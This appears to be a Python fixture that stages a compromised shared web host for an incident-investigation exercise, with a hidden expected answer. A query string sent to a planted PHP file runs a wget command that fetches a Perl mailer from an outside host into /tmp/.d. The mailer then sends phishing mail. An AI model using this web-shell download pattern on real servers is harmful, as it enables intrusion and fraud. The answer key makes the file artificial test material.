"""All sites run as www-data. A picture folder's page fetches a mailer into /tmp and starts it: no request comes with its
mail, and the file is no site's. The request that fetched it has its name in the query; visitors of both sites post in the
same two minutes, and one asks for a longer name."""
from server import Server

BAKERY, SHOP, INTRUDER, MAILER = "bakery.example", "shop.example", "203.0.113.77", "dm7.pl"


def build(root):
    server = Server(root, layout="debian", log="cpanel", mod_php=True)
    for name, domain in (("bakery", BAKERY), ("shop", SHOP)):
        server.account(name, domain, ["info"])
        server.php_file(domain, "/contact.php")
    server.history({f"info@{BAKERY}": "192.0.2.20", f"info@{SHOP}": "192.0.2.21"}, days=7)
    for ago in range(7, -1, -1):
        for number, at in enumerate(server.spread((ago, "08:00:00"), (ago, "15:30:00"), 6)):
            server.write_by_page((BAKERY, SHOP)[number % 2], "/contact.php", f"198.51.100.{20 + number}", at,
                                 f"guest{number}@town{number}.example", "delivered")
    server.php_file(SHOP, "/images/stories/x.php", days_old=server.days_since("11:40:00"))
    server.request(BAKERY, "198.51.100.90", "12:00:06", "/contact.php", "POST")
    server.request(BAKERY, "198.51.100.91", "12:00:09", f"/find.php?what=a{MAILER}")
    server.request(SHOP, "198.51.100.92", "12:00:10", "/contact.php", "POST")
    server.request(SHOP, INTRUDER, "12:00:08", f"/images/stories/x.php?c=cd%20/tmp/.d;wget%20http://198.51.100.78/{MAILER}")
    server.file(f"/tmp/.d/{MAILER}", "#!/usr/bin/perl\nopen(M, '|/usr/sbin/sendmail -t -oi');\n", server.days_since("12:00:09"))
    for at in server.spread("12:00:20", "15:40:00", 120):
        server.local_message("www-data", at, "support@bank.example", server.strangers(1), "Your account is limited",
                             ("greylisted", "delivered", "unknown", "spam"), directory="/tmp/.d", flood="mailer")
    server.expect("mailer", "script", system_user="www-data", script=f"/tmp/.d/{MAILER}", block=[],
                  entry={"how": "web_upload", "address": INTRUDER, "at": "12:00:08", "siblings": {},
                         "line": "/images/stories/x.php",
                         "says": ["perhaps", "shop.example/images/stories/x.php", "the request names the file"]})
    server.never_named("bakery", "shop")
    return server
